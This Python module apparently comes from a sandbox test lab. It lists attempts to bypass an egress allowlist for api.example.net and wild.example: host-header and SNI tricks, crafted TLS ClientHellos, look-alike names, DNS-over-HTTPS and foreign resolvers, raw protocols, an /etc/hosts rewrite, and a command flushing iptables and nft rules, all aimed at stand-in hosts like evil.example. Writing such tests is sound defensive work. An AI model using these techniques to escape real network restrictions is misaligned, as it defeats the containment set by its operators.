"""Attacks on a policy that allows names: api.example.net, and all below wild.example."""

from __future__ import annotations

from framework.bypass_lab import Attack
from framework.client_hello import client_hello, quic_initial
from framework.pretend_internet import RESOLVER, SHARED_HOST

__all__ = ["NAME_ATTACKS"]

_DOH = "/dns-query?dns=AAABAAABAAAAAAAABGV2aWwHZXhhbXBsZQAAAQAB"
_OWN_RULES = "iptables -t nat -F; nft flush ruleset; ip route add {OTHER} dev eth0"
_API = (SHARED_HOST, "api.example.net")
_HELLO = {ech: client_hello("api.example.net", ech=ech) for ech in (False, True)}
_STRANGE = client_hello("evil.example")
_TWO_RECORDS = b"".join(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part for part in (_STRANGE[5:40], _STRANGE[40:]))
_H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


def _two_names(hello: bytes) -> bytes:
    """The ClientHello with a second entry in its list of names, which RFC 6066 forbids."""
    name = b"api.example.net"
    entry, more = b"\x00" + len(name).to_bytes(2, "big") + name, b"\x00\x00\x0cevil.example"
    at = hello.index(entry)
    grown = bytearray(hello[:at] + entry + more + hello[at + len(entry) :])
    for place, size in ((at - 2, 2), (at - 4, 2), (3, 2), (6, 3)):
        grown[place : place + size] = (int.from_bytes(grown[place : place + size], "big") + len(more)).to_bytes(size, "big")
    extensions = 43 + 1 + hello[43]
    extensions += 2 + int.from_bytes(hello[extensions : extensions + 2], "big")
    extensions += 1 + hello[extensions]
    grown[extensions : extensions + 2] = (int.from_bytes(grown[extensions : extensions + 2], "big") + len(more)).to_bytes(2, "big")
    return bytes(grown)


_BY_ADDRESS = (
    Attack("a_hard_coded_address", "tcp('{OTHER}', 80, get('evil.example', PATH))"),
    Attack("a_hard_coded_address_by_tls", "tls('{OTHER}', 'evil.example', get('evil.example', PATH))"),
    Attack(
        "an_address_under_an_allowed_host_header",
        "tcp('{OTHER}', 80, get('api.example.net', PATH))",
        answer=r"HTTP/1.1 200",
        reached=_API,
    ),
    Attack(
        "an_address_under_an_allowed_sni",
        "tls('{OTHER}', 'api.example.net', get('api.example.net', PATH))",
        answer=r"HTTP/1.1 200",
        reached=_API,
    ),
    Attack(
        "an_address_by_a_lie_in_etc_hosts",
        "run('echo {OTHER} api.example.net >> /etc/hosts') and tcp('api.example.net', 80, get('api.example.net', PATH))",
        answer=r"HTTP/1.1 200",
        reached=_API,
    ),
    Attack("an_ip_literal_as_host", "tcp('{OTHER}', 80, get('{OTHER}', PATH))"),
    Attack("the_allowed_names_address_as_host", "tcp('{SHARED}', 80, get('{SHARED}', PATH))"),
    Attack("a_host_by_tls_without_sni", "tls('{OTHER}', None, get('api.example.net', PATH))"),
    Attack("the_allowed_names_host_without_sni", "tls('{SHARED}', None, get('api.example.net', PATH))"),
    Attack("another_port_of_an_allowed_name", "tcp('{SHARED}', 8080, get('api.example.net', PATH))"),
    Attack("another_tls_port_of_an_allowed_name", "tls('{SHARED}', 'api.example.net', get('api.example.net', PATH), port=8443)"),
    Attack("a_raw_port_of_an_allowed_name", "tcp('{SHARED}', 7777, b'hello')"),
)

_BY_HTTP = (
    Attack("another_host_on_an_allowed_address", "tcp('{SHARED}', 80, get('www.example.net', PATH))"),
    Attack("two_hosts_the_allowed_first", "tcp('{SHARED}', 80, get('api.example.net', PATH, 'Host: www.example.net\\r\\n'))"),
    Attack("two_hosts_the_allowed_last", "tcp('{SHARED}', 80, get('www.example.net', PATH, 'Host: api.example.net\\r\\n'))"),
    Attack("a_host_with_a_folded_line", "tcp('{SHARED}', 80, get('api.example.net\\r\\n .evil.example', PATH))"),
    Attack("a_host_with_a_space_before_its_colon", "tcp('{SHARED}', 80, get('api.example.net', PATH, 'Host : www.example.net\\r\\n'))"),
    Attack("another_host_in_an_absolute_uri", "tcp('{SHARED}', 80, get('api.example.net', 'http://www.example.net' + PATH))"),
    Attack("an_absolute_uri_under_another_host", "tcp('{OTHER}', 80, get('evil.example', 'http://evil.example' + PATH))"),
    Attack("a_host_by_connect", "tcp('{SHARED}', 80, get('evil.example:443', 'evil.example:443', method='CONNECT'))"),
    Attack("a_host_by_connect_under_an_allowed_host", "tcp('{SHARED}', 80, get('api.example.net', 'evil.example:443', method='CONNECT'))"),
    Attack("a_host_by_http2_without_tls", f"tcp('{{SHARED}}', 80, {_H2_PREFACE!r})"),
    Attack(
        "a_second_request_to_another_host", "tcp('{SHARED}', 80, get('api.example.net', '/') + get('www.example.net', PATH))", answer=r""
    ),
    Attack(
        "a_later_request_to_another_host",
        "later('{SHARED}', get('api.example.net', '/'), get('www.example.net', PATH))",
        answer=r".*closed",
    ),
    Attack("plain_http_on_the_tls_port", "tcp('{SHARED}', 443, get('api.example.net', PATH))"),
    Attack("a_host_without_a_host_header", "tcp('{SHARED}', 80, b'GET ' + PATH.encode() + b' HTTP/1.0\\r\\n\\r\\n')"),
    Attack("a_host_with_a_nul", "tcp('{OTHER}', 80, get('api.example.net\\0.evil.example', PATH))"),
    Attack("a_host_with_a_user", "tcp('{OTHER}', 80, get('api.example.net@evil.example', PATH))"),
    Attack("bytes_that_are_no_request", "tcp('{OTHER}', 80, b'SSH-2.0-x\\r\\n')"),
)

_BY_TLS = (
    Attack("another_sni_on_an_allowed_address", "tls('{SHARED}', 'www.example.net', get('api.example.net', PATH))"),
    Attack("a_name_behind_ech", f"tcp('{{SHARED}}', 443, {_HELLO[True]!r})"),
    Attack("a_strange_sni_in_small_segments", f"tcp('{{SHARED}}', 443, {_STRANGE!r}, pieces=40)"),
    Attack("a_strange_sni_over_two_records", f"tcp('{{SHARED}}', 443, {_TWO_RECORDS!r})"),
    Attack("two_names_in_one_sni", f"tcp('{{SHARED}}', 443, {_two_names(_HELLO[False])!r})"),
    Attack("an_old_hello_without_extensions", "tcp('{SHARED}', 443, bytes.fromhex('802e010301001500000010') + bytes(37))"),
)

_BY_PATTERN = (
    Attack("the_apex_of_a_wildcard", "tcp('{OTHER}', 80, get('wild.example', PATH))"),
    Attack("a_name_that_ends_like_a_wildcard", "tcp('{OTHER}', 80, get('evil-wild.example', PATH))"),
    Attack("a_name_that_ends_like_a_wildcard_without_a_dot", "tls('{OTHER}', 'awild.example', get('awild.example', PATH))"),
    Attack("a_name_that_has_the_wildcard_in_front", "tcp('{OTHER}', 80, get('a.wild.example.evil.example', PATH))"),
    Attack("a_name_below_an_exact_one", "tcp('{OTHER}', 80, get('secret.api.example.net', PATH))"),
    Attack("a_strange_name_with_a_trailing_dot", "tcp('{OTHER}', 80, get('evil.example.', PATH))"),
    Attack("a_strange_name_in_capitals", "tcp('{OTHER}', 80, get('EVIL.EXAMPLE', PATH))"),
    Attack("a_name_with_a_letter_of_another_script", "tcp('{OTHER}', 80, get('\\u0430pi.example.net', PATH))"),
    Attack("a_name_with_a_letter_of_another_script_in_punycode", "tls('{OTHER}', 'xn--pi-6kc.example.net', get('x', PATH))"),
    Attack("an_empty_label", "tcp('{OTHER}', 80, get('api..example.net', PATH))"),
)

_BY_DNS = (
    Attack("a_foreign_resolver", "dns('{RESOLVER}', 'evil.example')", answer=r"code 5|closed", unseen=RESOLVER),
    Attack("a_foreign_resolver_by_tcp", "dns('{RESOLVER}', 'evil.example', by_tcp=True)", answer=r"code 5|closed", unseen=RESOLVER),
    Attack("dns_over_tls", "tls('{RESOLVER}', 'dns.example', question('evil.example'), port=853)", unseen=RESOLVER),
    Attack("dns_over_https", f"tls('{{RESOLVER}}', 'dns.example', get('dns.example', '{_DOH}'))", unseen=RESOLVER),
    Attack(
        "dns_over_https_under_an_allowed_sni",
        "tls('{RESOLVER}', 'api.example.net', get('api.example.net', PATH))",
        answer=r"HTTP/1.1 200",
        unseen=RESOLVER,
        reached=_API,
    ),
    Attack("a_look_up_of_a_strange_name", "dns(resolver(), 'evil.example')", answer=r"code 5"),
    Attack("bytes_to_port_53_that_are_no_question", "udp('{OTHER}', 53, b'hello' * 20)"),
    Attack("a_tunnel_over_tcp_port_53", "tcp('{OTHER}', 53, b'SSH-2.0-x\\r\\n')"),
)

_BY_OTHER_PROTOCOLS = (
    Attack("quic", f"udp('{{SHARED}}', 443, *{quic_initial('api.example.net', SHARED_HOST)!r})", unseen=SHARED_HOST),
    Attack("udp", "udp('{OTHER}', 7777, b'hello')"),
    Attack("udp_of_an_allowed_name", "udp('{SHARED}', 7777, b'hello')", unseen=SHARED_HOST),
    Attack("icmp", "raw(1, '{OTHER}', bytes.fromhex('0800f7ff00000000'))", answer=r""),
    Attack("sctp", "raw(132, '{OTHER}', bytes(32))", answer=r""),
    Attack("gre", "raw(47, '{OTHER}', bytes(32))", answer=r""),
    Attack("another_source_address", "raw(17, '{OTHER}', bytes(32), source='10.200.0.9')", answer=r""),
    Attack("fragments", "udp('{OTHER}', 7777, b'x' * 4000)"),
    Attack("a_mapped_ipv6_address", "tcp('::ffff:{OTHER}', 80, get('evil.example', PATH), family=socket.AF_INET6)"),
    Attack("ipv6", "tcp('2001:db8::1', 80, get('evil.example', PATH), family=socket.AF_INET6)"),
    Attack("own_rules_of_the_packet_filter", f"run('{_OWN_RULES}') and tcp('{{OTHER}}', 80, get('evil.example', PATH))"),
)

NAME_ATTACKS = (*_BY_ADDRESS, *_BY_HTTP, *_BY_TLS, *_BY_PATTERN, *_BY_DNS, *_BY_OTHER_PROTOCOLS)
